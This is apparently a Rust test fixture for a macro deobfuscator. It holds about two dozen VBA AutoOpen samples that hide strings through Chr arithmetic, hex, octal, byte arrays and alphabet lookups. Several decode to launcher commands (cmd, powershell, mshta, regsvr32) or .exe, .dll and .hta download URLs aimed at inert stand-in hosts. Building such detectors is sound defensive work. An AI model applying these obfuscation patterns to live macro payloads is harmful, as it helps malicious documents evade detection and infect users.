//! Texts made of numbers: characters, hexadecimal digits, places in a table.

use super::{Case, case};

pub(super) const CASES: &[Case] = &[
    case(
        "characters one by one",
        "cmd /c inert-test.invalid",
        r#"
Sub AutoOpen()
    Shell Chr(99) & Chr(109) & Chr(100) & Chr(32) & Chr(47) & Chr(99) & Chr(32) & Chr(105) & Chr(110) & Chr(101) & Chr(114) & Chr(116) & Chr(45) & Chr(116) & Chr(101) & Chr(115) & Chr(116) & Chr(46) & Chr(105) & Chr(110) & Chr(118) & Chr(97) & Chr(108) & Chr(105) & Chr(100)
End Sub
"#,
    ),
    case(
        "characters as sums",
        "https://example.invalid/a1.exe",
        r#"
Sub AutoOpen()
    Dim u As String
    u = Chr(121 - 17) & Chr(133 - 17) & Chr(133 - 17) & Chr(129 - 17) & Chr(132 - 17) & Chr(75 - 17) & Chr(64 - 17) & Chr(64 - 17) & Chr(118 - 17) & Chr(137 - 17) & Chr(114 - 17) & Chr(126 - 17) & Chr(129 - 17) & Chr(125 - 17) & Chr(118 - 17) & Chr(63 - 17) & Chr(122 - 17) & Chr(127 - 17) & Chr(135 - 17) & Chr(114 - 17) & Chr(125 - 17) & Chr(122 - 17) & Chr(117 - 17) & Chr(64 - 17) & Chr(114 - 17) & Chr(66 - 17) & Chr(63 - 17) & Chr(118 - 17) & Chr(137 - 17) & Chr(118 - 17)
    Fetch u
End Sub
"#,
    ),
    case(
        "characters of products, powers and brackets",
        "inert/powers",
        r#"
Sub AutoOpen()
    s = ""
    s = s & Chr((11 - 4) * 15) & Chr(2 ^ 6 + 46) & Chr(202 / 2) & Chr(&H72) & Chr(0 + (4 * 29))
    s = s & Chr(&O57) & Chr(7 * 2 ^ 4) & Chr(1221 \ 11) & Chr(719 Mod 200) & Chr(51 + 50)
    s = s & Chr(Abs(-114)) & Chr(Int(115.99))
    MsgBox s
End Sub
"#,
    ),
    case(
        "wide characters in hexadecimal",
        "powershell inert-test.invalid",
        r#"
Sub AutoOpen()
    Dim c
    c = ChrW$(&H70) & ChrW$(&H6F) & ChrW$(&H77) & ChrW$(&H65) & ChrW$(&H72) & ChrW$(&H73) & ChrW$(&H68) & ChrW$(&H65) & ChrW$(&H6C) & ChrW$(&H6C) & ChrW$(&H20) & ChrW$(&H69) & ChrW$(&H6E) & ChrW$(&H65) & ChrW$(&H72) & ChrW$(&H74) & ChrW$(&H2D) & ChrW$(&H74) & ChrW$(&H65) & ChrW$(&H73) & ChrW$(&H74) & ChrW$(&H2E) & ChrW$(&H69) & ChrW$(&H6E) & ChrW$(&H76) & ChrW$(&H61) & ChrW$(&H6C) & ChrW$(&H69) & ChrW$(&H64)
    CreateObject("WScript.Shell").Run c, 0
End Sub
"#,
    ),
    case(
        "an array of numbers and a loop",
        "https://example.invalid/numbers.dll",
        r#"
Sub AutoOpen()
    Dim codes, text As String, i As Integer
    codes = Array(104, 116, 116, 112, 115, 58, 47, 47, 101, 120, 97, 109, 112, 108, 101, 46, 105, 110, 118, 97, 108, 105, 100, 47, 110, 117, 109, 98, 101, 114, 115, 46, 100, 108, 108)
    For i = LBound(codes) To UBound(codes)
        text = text & Chr(codes(i))
    Next i
    Navigate text
End Sub
"#,
    ),
    case(
        "an array of numbers with an offset",
        "https://example.invalid/offset.dll",
        r#"
Function Decode(codes As Variant, shift As Integer) As String
    Dim one As Variant
    For Each one In codes
        Decode = Decode & ChrW(one - shift)
    Next
End Function

Sub AutoOpen()
    Navigate Decode(Array(235, 247, 247, 243, 246, 189, 178, 178, 232, 251, 228, 240, 243, 239, 232, 177, 236, 241, 249, 228, 239, 236, 231, 178, 242, 233, 233, 246, 232, 247, 177, 231, 239, 239), 131)
End Sub
"#,
    ),
    case(
        "numbers in a text",
        "mshta https://example.invalid/numbers.hta",
        r#"
Sub AutoOpen()
    Dim parts() As String, k As Long, out As String
    parts = Split("109|115|104|116|97|32|104|116|116|112|115|58|47|47|101|120|97|109|112|108|101|46|105|110|118|97|108|105|100|47|110|117|109|98|101|114|115|46|104|116|97", "|")
    For k = 0 To UBound(parts)
        out = out + Chr$(CInt(parts(k)))
    Next
    Shell out, vbHide
End Sub
"#,
    ),
    case(
        "numbers of three digits in a row",
        "inert/three-digits",
        r#"
Sub AutoOpen()
    Dim t As String, r As String
    t = "105110101114116047116104114101101045100105103105116115"
    Do While Len(t) > 0
        r = r & Chr(Val(Left(t, 3)))
        t = Mid(t, 4)
    Loop
    Debug.Print r
End Sub
"#,
    ),
    case(
        "pairs of hexadecimal digits",
        "regsvr32 /s inert-test.invalid",
        r#"
Private Function FromHex(ByVal h As String) As String
    Dim i As Long
    For i = 1 To Len(h) Step 2
        FromHex = FromHex & Chr("&H" & Mid(h, i, 2))
    Next i
End Function

Sub AutoOpen()
    Shell FromHex("7265677376723332202f7320696e6572742d746573742e696e76616c6964")
End Sub
"#,
    ),
    case(
        "pairs of hexadecimal digits by Val",
        "WScript.Shell",
        r#"
Sub AutoOpen()
    Dim a$, b$, i%
    a$ = "575363726970742E5368656C6C"
    For i% = 0 To Len(a$) / 2 - 1
        b$ = b$ & Chr$(Val("&H" & Mid$(a$, i% * 2 + 1, 2)))
    Next
    Set o = CreateObject(b$)
End Sub
"#,
    ),
    case(
        "hexadecimal digits with escapes",
        "https://example.invalid/escaped",
        r#"
Sub AutoOpen()
    Dim p As Variant, all As String
    For Each p In Split("%68%74%74%70%73%3A%2F%2F%65%78%61%6D%70%6C%65%2E%69%6E%76%61%6C%69%64%2F%65%73%63%61%70%65%64", "%")
        If p <> "" Then all = all & Chr(CLng("&H" & p))
    Next p
    MsgBox all
End Sub
"#,
    ),
    case(
        "octal numbers",
        "inert-octal.invalid",
        r#"
Sub AutoOpen()
    x = Array(&O151, &O156, &O145, &O162, &O164, &O55, &O157, &O143, &O164, &O141, &O154, &O56, &O151, &O156, &O166, &O141, &O154, &O151, &O144)
    For n = 0 To UBound(x): y = y & Chr(x(n)): Next
    Shell y
End Sub
"#,
    ),
    case(
        "bytes turned into text",
        "cmd /c inert-bytes.invalid",
        r#"
Sub AutoOpen()
    Dim b() As Byte, i As Long, v
    v = Array(99, 109, 100, 32, 47, 99, 32, 105, 110, 101, 114, 116, 45, 98, 121, 116, 101, 115, 46, 105, 110, 118, 97, 108, 105, 100)
    ReDim b(UBound(v))
    For i = 0 To UBound(v)
        b(i) = v(i)
    Next
    Shell StrConv(b, vbUnicode)
End Sub
"#,
    ),
    case(
        "bytes set one by one",
        "inert-byte",
        r#"
Sub AutoOpen()
    Dim b(9) As Byte
    b(0) = 105: b(1) = 110: b(2) = 101: b(3) = 114: b(4) = 116
    b(5) = 45: b(6) = 98: b(7) = 121: b(8) = 116: b(9) = 101
    MsgBox StrConv(b, 64)
End Sub
"#,
    ),
    case(
        "places in an alphabet",
        "shell.application",
        r#"
Sub AutoOpen()
    Dim a As String
    a = "abcdefghijklmnopqrstuvwxyz."
    n = Mid(a, 19, 1) & Mid(a, 8, 1) & Mid(a, 5, 1) & Mid(a, 12, 1) & Mid(a, 12, 1) & Mid(a, 27, 1) & Mid(a, 1, 1) & Mid(a, 16, 1) & Mid(a, 16, 1) & Mid(a, 12, 1) & Mid(a, 9, 1) & Mid(a, 3, 1) & Mid(a, 1, 1) & Mid(a, 20, 1) & Mid(a, 9, 1) & Mid(a, 15, 1) & Mid(a, 14, 1)
    Set o = CreateObject(n)
End Sub
"#,
    ),
    case(
        "places in an alphabet, by a function and a list",
        "https://example.invalid/places",
        r#"
Const TABLE = "/ei:nvlsdaxmtpch.q"

Function Spell(ParamArray places()) As String
    Dim p
    For Each p In places
        Spell = Spell & Mid(TABLE, p + 1, 1)
    Next
End Function

Sub AutoOpen()
    Navigate Spell(15, 12, 12, 13, 7, 3, 0, 0, 1, 10, 9, 11, 13, 6, 1, 16, 2, 4, 5, 9, 6, 2, 8, 0, 13, 6, 9, 14, 1, 7)
End Sub
"#,
    ),
    case(
        "sums of codes",
        "inert-asc",
        r#"
Sub AutoOpen()
    s = Chr(Asc("h") + 1) & Chr(Asc("o") - 1) & Chr(Asc("A") + 36) & Chr(AscW("q") + 1)
    s = s & Chr(Asc("t")) & Chr(Asc(",") + 1) & Chr(Asc("a") Xor 0) & Chr(Asc("S") Or 32)
    s = s & Chr(Asc("CCC") + Asc(" "))
    MsgBox s
End Sub
"#,
    ),
    case(
        "lengths as codes",
        "inert lengths",
        r#"
Sub AutoOpen()
    MsgBox "in" & Chr(Len(Space(101))) & Chr(Len(String(60, "x") & String(54, "y"))) & Chr(UBound(Split(String(116, ","), ","))) & " length" & Chr(Len("xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"))
End Sub
"#,
    ),
    case(
        "digits by Hex and Oct",
        "dead-beef-inert-144",
        r#"
Sub AutoOpen()
    t = LCase(Hex(57005)) & "-" & LCase(Hex$(48879)) & "-" & "ine" & "rt" & "-" & Oct(100)
    MsgBox t
End Sub
"#,
    ),
    case(
        "numbers that become text",
        "192.0.2.45",
        r#"
Sub AutoOpen()
    Dim d As String
    d = "."
    host = CStr(200 - 8) & d & CStr(0) & d & Trim(Str(1 + 1)) & d & CLng("4" & "5")
    Open "inert.txt" For Output As #1
    Print #1, "https://" & host & "/inert"
    Close #1
End Sub
"#,
    ),
    case(
        "a long number taken apart",
        "<inert>",
        r#"
Sub AutoOpen()
    Dim n, s
    For Each n In Array(26990, 25970, 29728)
        s = s & Chr(n \ 256) & Chr(n And 255)
    Next
    MsgBox "<" & Trim(s) & ">"
End Sub
"#,
    ),
    case(
        "numbers in a two-dimensional array",
        "inert grid",
        r#"
Sub AutoOpen()
    Dim g(1, 4) As Integer, r As Integer, c As Integer, s As String
    g(0, 0) = 105: g(0, 1) = 110: g(0, 2) = 101: g(0, 3) = 114: g(0, 4) = 116
    g(1, 0) = 103: g(1, 1) = 114: g(1, 2) = 105: g(1, 3) = 100: g(1, 4) = 0
    For r = 0 To 1
        For c = 0 To 4
            If g(r, c) <> 0 Then s = s & Chr(g(r, c))
        Next c
        If r = 0 Then s = s & " "
    Next r
    MsgBox s
End Sub
"#,
    ),
];
